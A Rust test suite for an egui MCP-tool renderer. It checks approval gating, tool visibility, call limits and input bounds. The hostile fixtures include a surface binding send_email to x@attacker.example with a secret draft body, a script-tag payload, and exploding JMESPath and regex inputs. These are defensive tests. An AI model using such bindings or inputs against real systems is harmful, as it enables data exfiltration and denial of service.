//! The official MCP catalog (`catalogs/mcp/v1/catalog.json`) served natively:
//! `callMcpTool` end to end against a real MCP peer (the rmcp flight server of
//! examples/mcp_demo_server over an in-memory stream), the data functions, the web-view
//! components drawn as safe cards, capabilities, and the hostile cases (a tool result that
//! triggers itself, an exploding JMESPath expression, `regexCapture` on a huge input, an
//! agent calling the catalog's renderer-only functions), each bounded by `Limits`.

use crate::common as inputs_common;
use crate::flight_server;

use egui_a2ui::eval::EvalContext;
use egui_a2ui::mcp::{MCP_CATALOG_V1_0, McpCatalog, McpError, ToolDirectory};
use egui_a2ui::{A2uiError, Catalog, Event, Limits, Renderer, Version};
use egui_kittest::kittest::Queryable;
use flight_server::FlightServer;
use inputs_common::{BASIC_V10, harness_for};
use rmcp::model::{CallToolRequestParams, ClientCapabilities, ClientConfig, Implementation};
use rmcp::{ClientHandler, ServiceExt};
use serde_json::{Map, Value, json};

#[derive(Clone)]
struct Host;

impl ClientHandler for Host {
    fn get_info(&self) -> ClientConfig {
        ClientConfig::new(
            ClientCapabilities::default(),
            Implementation::new("egui_a2ui-mcp-catalog", "0.1.0"),
        )
    }
}

fn mcp_call(name: &str, arguments: Value) -> Value {
    json!({"@call": "callMcpTool", "catalogId": MCP_CATALOG_V1_0,
           "args": {"name": name, "arguments": arguments}})
}

fn doc(components: Value, data: Value) -> String {
    let create = json!({"version": "v1.0", "createSurface": {"surfaceId": "s", "catalogId": BASIC_V10,
        "components": components, "dataModel": data}});
    format!("{create}\n")
}

fn flight_tools() -> ToolDirectory {
    let mut tools = ToolDirectory::new();
    tools.insert_tools_list(
        "flights",
        &json!({"tools": [
            {"name": "search_flights", "inputSchema": {"type": "object"}},
            {"name": "select_flight", "inputSchema": {"type": "object"},
             "_meta": {"ui": {"visibility": ["app"]}}}
        ]}),
    );
    tools
}

#[tokio::test(flavor = "current_thread")]
async fn a_surface_calls_an_mcp_tool_and_shows_the_result() {
    let server = FlightServer::default();
    let received = server.received.clone();
    let (server_io, client_io) = tokio::io::duplex(64 * 1024);
    let server_task = tokio::spawn(async move {
        let running = server.serve(server_io).await.unwrap();
        running.waiting().await.unwrap();
    });
    let client = Host.serve(client_io).await.unwrap();

    // The tool directory comes from the real `tools/list`.
    let mut tools = ToolDirectory::new();
    let listed = serde_json::to_value(client.list_all_tools().await.unwrap()).unwrap();
    assert_eq!(tools.insert_tools_list("flights", &listed), 2);
    let mcp = McpCatalog::new("flights", tools);
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();

    let confirm = json!({"@call": "jmespath", "catalogId": MCP_CATALOG_V1_0, "args": {
        "expression": "content[0].text",
        "data": mcp_call("select_flight", json!({"flightId": {"@path": "/flight"}}))}});
    let components = json!([
        {"id": "root", "component": "Column", "children": ["confirm", "model_only"]},
        {"id": "confirm", "component": "Text", "text": confirm},
        // A tool the server does not offer: never called.
        {"id": "model_only", "component": "Text",
         "text": mcp_call("launch_missiles", json!({}))}
    ]);
    let mut renderer = Renderer::new(catalog);
    // The renderer's store holds this server's surfaces: its surfaces may call its tools.
    mcp.bind_store(renderer.store().id());
    renderer.feed_document(doc(components, json!({"flight": "UA954"})).as_bytes());
    let mut h = harness_for(renderer);
    h.run();

    // A binding is drawn without a gesture and `select_flight` is not read-only: the call
    // waits for the host, one however many frames ran; none for the unknown tool.
    assert!(mcp.take_requests().is_empty(), "nothing sent unapproved");
    let waiting = mcp.awaiting_approval();
    assert_eq!(waiting.len(), 1, "{waiting:?}");
    mcp.approve(&waiting[0].call_ref).unwrap();
    assert!(mcp.awaiting_approval().is_empty());
    let requests = mcp.take_requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0].name, "select_flight");
    assert_eq!(requests[0].surface_id, "s");
    assert_eq!(
        Value::Object(requests[0].arguments.clone()),
        json!({"flightId": "UA954"})
    );
    let refusals = mcp.take_errors();
    assert!(
        refusals.iter().any(
            |e| matches!(e, McpError::ToolNotOnServer { tool, .. } if tool == "launch_missiles")
        ),
        "{refusals:?}"
    );
    assert!(h.query_by_label("Booked UA954.").is_none(), "pending");
    assert_eq!(mcp.pending_calls(), 1);

    // The host sends it on the real server and hands back the result.
    let params: CallToolRequestParams = serde_json::from_value(requests[0].params()).unwrap();
    let result = client.call_tool(params).await.unwrap();
    mcp.on_result(
        &requests[0].call_ref,
        &serde_json::to_value(&result).unwrap(),
    )
    .unwrap();
    h.run();
    h.get_by_label("Booked UA954.");
    assert_eq!(mcp.pending_calls(), 0);
    h.run();
    assert!(
        mcp.take_requests().is_empty(),
        "the answered call is not repeated"
    );
    let calls: Vec<String> = received
        .lock()
        .unwrap()
        .iter()
        .map(|c| c.name.clone())
        .collect();
    assert_eq!(calls, ["select_flight"]);

    client.cancel().await.unwrap();
    server_task.await.unwrap();
}

#[test]
fn a_tool_apps_may_not_see_is_never_called() {
    let mut tools = ToolDirectory::new();
    tools.insert_tools_list(
        "srv",
        &json!({"tools": [{"name": "model_only", "inputSchema": {"type": "object"},
                           "_meta": {"ui": {"visibility": ["model"]}}}]}),
    );
    let mcp = McpCatalog::new("srv", tools);
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let store = egui_a2ui::SurfaceStore::basic();
    mcp.bind_store(store.id());
    let (r, _) = call_in(
        &catalog,
        &Limits::default(),
        Some(store.id()),
        "callMcpTool",
        json!({"name": "model_only"}),
    );
    assert!(matches!(r, Err(A2uiError::Expression { .. })), "{r:?}");
    assert!(mcp.take_requests().is_empty());
    assert!(matches!(
        mcp.take_errors().as_slice(),
        [McpError::ToolNotAppVisible { tool }] if tool == "model_only"
    ));
}

#[test]
fn the_mcp_catalog_is_advertised_only_where_installed() {
    let ids = |c: &Catalog| -> Vec<String> {
        let meta = c.capabilities_metadata();
        meta["a2uiRendererCapabilities"]["v1.0"]["supportedCatalogIds"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .collect()
    };
    let plain = Catalog::basic();
    assert!(!ids(&plain).iter().any(|i| i == MCP_CATALOG_V1_0));
    let mut served = Catalog::basic();
    McpCatalog::new("flights", flight_tools())
        .install(&mut served)
        .unwrap();
    assert!(ids(&served).iter().any(|i| i == MCP_CATALOG_V1_0));
    assert!(served.functions().contains("callMcpTool"));
    assert!(!plain.functions().contains("callMcpTool"));
}

/// A tool whose result is written where its own arguments are read: each answer makes a
/// new call. The loop stops at `max_mcp_tool_calls` with a typed error.
#[test]
fn a_call_mcp_tool_loop_stops_at_the_call_limit() {
    let mut tools = ToolDirectory::new();
    tools.insert_tools_list(
        "echo",
        &json!({"tools": [{"name": "echo", "inputSchema": {"type": "object"},
                           "annotations": {"readOnlyHint": true},
                           "_meta": {"ui": {"visibility": ["app"]}}}]}),
    );
    let mcp = McpCatalog::new("echo", tools);
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let limits = Limits {
        max_mcp_tool_calls: 8,
        ..Limits::default()
    };
    let text = json!({"@call": "callMcpTool", "catalogId": MCP_CATALOG_V1_0, "args": {
        "name": "echo", "arguments": {"n": {"@path": "/n"}}, "targetDataPath": "/n"}});
    let mut renderer = Renderer::with_limits(catalog, limits);
    mcp.bind_store(renderer.store().id());
    renderer.feed_document(
        doc(
            json!([{"id": "root", "component": "Text", "text": text}]),
            json!({"n": 0}),
        )
        .as_bytes(),
    );
    let mut h = harness_for(renderer);
    let mut answered = 0;
    for round in 0..50 {
        h.run();
        let requests = mcp.take_requests();
        if requests.is_empty() {
            break;
        }
        for r in requests {
            mcp.on_result(
                &r.call_ref,
                &json!({"content": [{"type": "text", "text": format!("{round}")}]}),
            )
            .unwrap();
            answered += 1;
        }
        let errors = mcp.apply_writes(h.state_mut().renderer.store_mut());
        assert!(errors.is_empty(), "{errors:?}");
    }
    assert_eq!(answered, 8, "exactly max_mcp_tool_calls calls were made");
    assert_eq!(mcp.calls_made(), 8);
    h.run();
    assert!(mcp.take_requests().is_empty(), "no call past the limit");
    let errors = mcp.take_errors();
    assert!(
        errors
            .iter()
            .any(|e| matches!(e, McpError::CallLimit { limit: 8 })),
        "{errors:?}"
    );
}

fn mcp_functions() -> Catalog {
    let mut catalog = Catalog::basic();
    McpCatalog::new("flights", flight_tools())
        .install(&mut catalog)
        .unwrap();
    catalog
}

fn call(
    catalog: &Catalog,
    limits: &Limits,
    name: &str,
    args: Value,
) -> (Result<Value, A2uiError>, Vec<A2uiError>) {
    call_in(catalog, limits, None, name, args)
}

/// [`call`] on a surface of `store`, when given.
fn call_in(
    catalog: &Catalog,
    limits: &Limits,
    store: Option<egui_a2ui::model::StoreId>,
    name: &str,
    args: Value,
) -> (Result<Value, A2uiError>, Vec<A2uiError>) {
    let data = json!({});
    let cx = EvalContext::new(&data, "/", Version::V1_0, catalog.functions(), limits);
    let cx = match store {
        Some(s) => cx.with_store(s),
        None => cx,
    };
    let mut c = Map::new();
    c.insert("call".into(), json!(name));
    c.insert("args".into(), args);
    let r = cx.call(&c);
    (r, cx.take_diagnostics())
}

fn limit_hit(diagnostics: &[A2uiError], what: &str) -> bool {
    diagnostics
        .iter()
        .any(|d| matches!(d, A2uiError::LimitExceeded { what: w, .. } if *w == what))
}

#[test]
fn the_data_functions_compute_what_the_catalog_describes() {
    let c = mcp_functions();
    let l = Limits::default();
    let result = json!({"content": [{"type": "text", "text": "a,b"}], "structuredContent": {"items": [{"n": 1}, {"n": 2}]}});
    assert_eq!(
        call(
            &c,
            &l,
            "jmespath",
            json!({"expression": "structuredContent.items[*].n", "data": result})
        )
        .0,
        Ok(json!([1, 2]))
    );
    assert_eq!(
        call(
            &c,
            &l,
            "split",
            json!({"value": "a,b,,c", "separator": ","})
        )
        .0,
        Ok(json!(["a", "b", "", "c"]))
    );
    assert_eq!(
        call(
            &c,
            &l,
            "split",
            json!({"value": ["ab", "c"], "separator": ""})
        )
        .0,
        Ok(json!([["a", "b"], ["c"]]))
    );
    assert_eq!(
        call(
            &c,
            &l,
            "regexCapture",
            json!({"value": "SFO-TLV 10:40", "pattern": r"(\w+)-(\w+)(x)?"})
        )
        .0,
        Ok(json!(["SFO", "TLV", ""]))
    );
    assert_eq!(
        call(
            &c,
            &l,
            "regexCapture",
            json!({"value": "none", "pattern": r"\d+"})
        )
        .0,
        Ok(Value::Null)
    );
    // The replacement is literal text: `$1` is not a group reference.
    assert_eq!(
        call(
            &c,
            &l,
            "regexReplace",
            json!({"value": "a1b22", "pattern": r"\d+", "replacement": "<$1>"})
        )
        .0,
        Ok(json!("a<$1>b<$1>"))
    );
}

#[test]
fn an_exploding_jmespath_expression_is_refused_with_limit_exceeded() {
    let c = mcp_functions();
    let l = Limits::default();
    // Each `[@, @]` doubles its input: 2^30 values if evaluated.
    let doubling = format!("@{}", " | [@, @]".repeat(30));
    let (r, d) = call(
        &c,
        &l,
        "jmespath",
        json!({"expression": doubling, "data": [1]}),
    );
    assert!(matches!(r, Err(A2uiError::Expression { .. })), "{r:?}");
    assert!(limit_hit(&d, "max_jmespath_fanout"), "{d:?}");
    // Deep nesting would recurse in the parser.
    let deep = format!("{}a{}", "(".repeat(5000), ")".repeat(5000));
    let (r, d) = call(&c, &l, "jmespath", json!({"expression": deep, "data": {}}));
    assert!(r.is_err());
    assert!(limit_hit(&d, "max_jmespath_expression_bytes"), "{d:?}");
    let nested = format!("{}a{}", "(".repeat(100), ")".repeat(100));
    let (r, d) = call(
        &c,
        &l,
        "jmespath",
        json!({"expression": nested, "data": {}}),
    );
    assert!(r.is_err());
    assert!(limit_hit(&d, "jmespath nesting"), "{d:?}");
    // A result larger than the output budget.
    let small = Limits {
        max_function_output_nodes: 1000,
        ..Limits::default()
    };
    let big: Vec<u32> = (0..5000).collect();
    let (r, d) = call(
        &c,
        &small,
        "jmespath",
        json!({"expression": "@", "data": big}),
    );
    assert!(r.is_err());
    assert!(limit_hit(&d, "max_function_output_nodes"), "{d:?}");
}

#[test]
fn regex_capture_on_a_huge_input_is_refused_with_limit_exceeded() {
    let c = mcp_functions();
    let l = Limits::default();
    let huge = "a".repeat(l.max_regex_input_bytes + 1);
    let (r, d) = call(
        &c,
        &l,
        "regexCapture",
        json!({"value": huge, "pattern": "(a+)$"}),
    );
    assert!(r.is_err());
    assert!(limit_hit(&d, "max_regex_input_bytes"), "{d:?}");
    // Many strings count together.
    let many = vec!["a".repeat(1024); 1025];
    let (r, d) = call(
        &c,
        &l,
        "regexCapture",
        json!({"value": many, "pattern": "a"}),
    );
    assert!(r.is_err());
    assert!(limit_hit(&d, "max_regex_input_bytes"), "{d:?}");
    // An empty-match pattern with a long replacement would build input × replacement.
    let text = "a".repeat(100_000);
    let (r, d) = call(
        &c,
        &l,
        "regexReplace",
        json!({"value": text, "pattern": "", "replacement": "x".repeat(100)}),
    );
    assert!(r.is_err());
    assert!(limit_hit(&d, "max_regex_input_bytes"), "{d:?}");
    // Just under the limit works.
    let fits = "a".repeat(l.max_regex_input_bytes);
    let (r, _) = call(
        &c,
        &l,
        "regexCapture",
        json!({"value": fits, "pattern": "(a{3})$"}),
    );
    assert_eq!(r, Ok(json!(["aaa"])));
}

#[test]
fn an_agent_cannot_call_the_mcp_catalog_functions() {
    let c = mcp_functions();
    let mut r = Renderer::new(c);
    for (id, name) in [
        ("m1", "callMcpTool"),
        ("m2", "updateDataModel"),
        ("m3", "jmespath"),
    ] {
        r.apply(json!({"version": "v1.0", "callRendererFunction": {"functionCallId": id,
            "callFunction": {"@call": name, "args": {"name": "select_flight"}, "catalogId": MCP_CATALOG_V1_0}}})).into_result()
            .unwrap();
    }
    let replies: Vec<Value> = r
        .take_events()
        .into_iter()
        .filter_map(|e| match e {
            Event::Reply(v) => Some(v),
            _ => None,
        })
        .collect();
    assert_eq!(replies.len(), 3);
    for m in &replies {
        assert_eq!(
            m["rendererFunctionResponse"]["error"]["code"], "INVALID_FUNCTION_CALL",
            "{m}"
        );
    }
}

#[test]
fn update_data_model_writes_once_its_values_are_known() {
    let mcp = McpCatalog::new("flights", flight_tools());
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let button_action = json!({"functionCall": {"@call": "updateDataModel", "catalogId": MCP_CATALOG_V1_0,
        "args": {"updates": {"/picked": {"@path": "/flight"}, "count": 2}}}});
    let components = json!([
        {"id": "root", "component": "Column", "children": ["go"]},
        {"id": "go", "component": "Button", "child": "go-label", "action": button_action},
        {"id": "go-label", "component": "Text", "text": "Pick"}
    ]);
    let mut renderer = Renderer::new(catalog);
    renderer.feed_document(doc(components, json!({"flight": "LY005"})).as_bytes());
    let mut h = harness_for(renderer);
    assert!(mcp.take_writes().is_empty(), "nothing before the click");
    h.get_by_label("Pick").click();
    h.run();
    let errors = mcp.apply_writes(h.state_mut().renderer.store_mut());
    assert!(errors.is_empty(), "{errors:?}");
    let s = h.state().renderer.store().surface("s").unwrap();
    assert_eq!(s.data.get("/picked"), Some(&json!("LY005")));
    assert_eq!(s.data.get("/count"), Some(&json!(2)));
}

#[test]
fn web_view_components_are_safe_cards() {
    let mut catalog = Catalog::basic();
    McpCatalog::new("flights", flight_tools())
        .install(&mut catalog)
        .unwrap();
    let iframe = egui_a2ui::mcp::IFRAME_CATALOG_V1_0;
    let components = json!([
        {"id": "root", "component": "Column", "children": ["app", "url", "src"]},
        {"id": "app", "component": "McpApp", "catalogId": MCP_CATALOG_V1_0,
         "title": "Seat map", "htmlContent": "<script>alert(1)</script>"},
        {"id": "url", "component": "WebAppFrameUrl", "catalogId": iframe,
         "title": "Airline site", "url": "https://example.com/seats"},
        {"id": "src", "component": "WebAppFrameSrcdoc", "catalogId": iframe,
         "title": "Generated app", "htmlContent": "<button onclick=\"x()\">Go</button>"}
    ]);
    let mut renderer = Renderer::new(catalog);
    renderer.feed_document(doc(components, json!({})).as_bytes());
    let mut h = harness_for(renderer);
    h.get_by_label("Seat map");
    h.get_by_label("Airline site");
    h.get_by_label("Generated app");
    h.get_by_label("https://example.com/seats");
    // HTML is never shown or run; only the URL card has a button.
    assert!(h.query_by_label_contains("<script>").is_none());
    assert!(h.query_by_label("Go").is_none());
    assert_eq!(h.query_all_by_label("Open in browser").count(), 1);
    h.get_by_label("Open in browser").click();
    h.run();
    let opened: Vec<String> = h
        .state()
        .events
        .iter()
        .filter_map(|e| match e {
            Event::OpenUrl { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(opened, ["https://example.com/seats"]);
    assert!(h.state().renderer.store().errors().is_empty());
}

/// A mail server's tools: `send_email` changes the world, `list_drafts` is read-only.
fn mail_tools() -> ToolDirectory {
    let mut tools = ToolDirectory::new();
    tools.insert_tools_list(
        "mail",
        &json!({"tools": [
            {"name": "send_email", "inputSchema": {"type": "object"}},
            {"name": "list_drafts", "inputSchema": {"type": "object"},
             "annotations": {"readOnlyHint": true}}
        ]}),
    );
    tools
}

fn send_email_text() -> Value {
    json!([{"id": "root", "component": "Text", "text": mcp_call(
        "send_email", json!({"to": "x@attacker.example", "body": {"@path": "/draft"}}))}])
}

/// The review's M2 input: a surface of another agent (a store not bound to the mail
/// server's sessions) binds `send_email`. Nothing is sent or queued, the host sees a
/// typed refusal and the agent gets an error.
#[test]
fn call_mcp_tool_from_a_foreign_surface_is_refused() {
    let mcp = McpCatalog::new("mail", mail_tools());
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    // A session of the mail server is bound; the renderer drawing the hostile surface is
    // not.
    let session = egui_a2ui::mcp::AppSession::new(
        "call-1",
        "mail",
        "compose",
        egui_a2ui::model::Catalogs::basic(),
    );
    mcp.bind_session(&session).unwrap();
    let mut renderer = Renderer::new(catalog);
    renderer.feed_document(doc(send_email_text(), json!({"draft": "secret notes"})).as_bytes());
    let mut h = harness_for(renderer);
    h.run();
    assert!(mcp.take_requests().is_empty(), "nothing sent");
    assert!(mcp.awaiting_approval().is_empty(), "nothing queued");
    assert_eq!(mcp.calls_made(), 0);
    let refusals = mcp.take_errors();
    assert!(
        refusals.iter().any(|e| matches!(e,
            McpError::ForeignSurface { server_id, surface_id } if server_id == "mail" && surface_id == "s")),
        "{refusals:?}"
    );
    // The host hands the refusal to the agent of the store that drew it, once.
    assert_eq!(mcp.report_refusals(h.state_mut().renderer.store_mut()), 1);
    h.run();
    assert_eq!(mcp.report_refusals(h.state_mut().renderer.store_mut()), 0);
    let told = h.state().errors();
    assert!(
        told.iter().any(|e| e.contains("not a surface of server")),
        "the agent is told: {told:?}"
    );
    // A session of another server cannot be bound.
    let other = egui_a2ui::mcp::AppSession::new(
        "call-2",
        "bank",
        "pay",
        egui_a2ui::model::Catalogs::basic(),
    );
    assert!(matches!(
        mcp.bind_session(&other),
        Err(McpError::SessionOfAnotherServer { .. })
    ));
}

/// On a bound store, a binding to a tool that is not read-only (drawn, no gesture) is
/// queued for the host, not sent; approving sends it, its result shows; denying another
/// fails it without sending.
#[test]
fn a_tool_that_is_not_read_only_waits_for_approval_without_a_gesture() {
    let mcp = McpCatalog::new("mail", mail_tools());
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let mut renderer = Renderer::new(catalog);
    mcp.bind_store(renderer.store().id());
    renderer.feed_document(doc(send_email_text(), json!({"draft": "hi"})).as_bytes());
    let mut h = harness_for(renderer);
    h.run();
    h.run();
    assert!(mcp.take_requests().is_empty(), "not sent without approval");
    let waiting = mcp.awaiting_approval();
    assert_eq!(waiting.len(), 1, "one queued, however many frames");
    assert_eq!(waiting[0].name, "send_email");
    assert_eq!(
        Value::Object(waiting[0].arguments.clone()),
        json!({"to": "x@attacker.example", "body": "hi"})
    );
    assert_eq!(mcp.pending_calls(), 1);
    mcp.approve(&waiting[0].call_ref).unwrap();
    let sent = mcp.take_requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].call_ref, waiting[0].call_ref);
    assert!(mcp.approve(&waiting[0].call_ref).is_err(), "approved once");
    mcp.on_result(
        &sent[0].call_ref,
        &json!({"content": [{"type": "text", "text": "Sent."}]}),
    )
    .unwrap();
    h.run();
    h.get_by_label_contains("Sent.");

    // A second draft: denied, never sent, the call fails.
    h.state_mut()
        .renderer
        .apply(json!({"version": "v1.0", "updateDataModel": {"surfaceId": "s", "path": "/draft", "value": "again"}}))
        .into_result()
        .unwrap();
    h.run();
    let waiting = mcp.awaiting_approval();
    assert_eq!(waiting.len(), 1, "{waiting:?}");
    mcp.deny(&waiting[0].call_ref).unwrap();
    h.run();
    assert!(mcp.take_requests().is_empty(), "a denied call is not sent");
    assert!(mcp.awaiting_approval().is_empty());
    assert_eq!(mcp.pending_calls(), 0);
}

/// A read-only tool is called while drawing, without a gesture.
#[test]
fn a_read_only_tool_is_called_without_a_gesture() {
    let mcp = McpCatalog::new("mail", mail_tools());
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let mut renderer = Renderer::new(catalog);
    mcp.bind_store(renderer.store().id());
    let components = json!([{"id": "root", "component": "Text",
        "text": mcp_call("list_drafts", json!({}))}]);
    renderer.feed_document(doc(components, json!({})).as_bytes());
    let mut h = harness_for(renderer);
    h.run();
    let sent = mcp.take_requests();
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0].name, "list_drafts");
    assert!(mcp.awaiting_approval().is_empty());
}

/// A click on a button whose action is `callMcpTool` is a gesture: the tool is called
/// at once, read-only or not.
#[test]
fn a_click_calls_a_tool_that_is_not_read_only() {
    let mcp = McpCatalog::new("mail", mail_tools());
    let mut catalog = Catalog::basic();
    mcp.install(&mut catalog).unwrap();
    let mut renderer = Renderer::new(catalog);
    mcp.bind_store(renderer.store().id());
    let action = json!({"functionCall": mcp_call("send_email", json!({"to": "me@example.com"}))});
    let components = json!([
        {"id": "root", "component": "Button", "child": "label", "action": action},
        {"id": "label", "component": "Text", "text": "Send"}
    ]);
    renderer.feed_document(doc(components, json!({})).as_bytes());
    let mut h = harness_for(renderer);
    h.run();
    assert!(mcp.take_requests().is_empty() && mcp.awaiting_approval().is_empty());
    h.get_by_label("Send").click();
    h.run();
    let sent = mcp.take_requests();
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0].name, "send_email");
    assert!(mcp.awaiting_approval().is_empty());
}
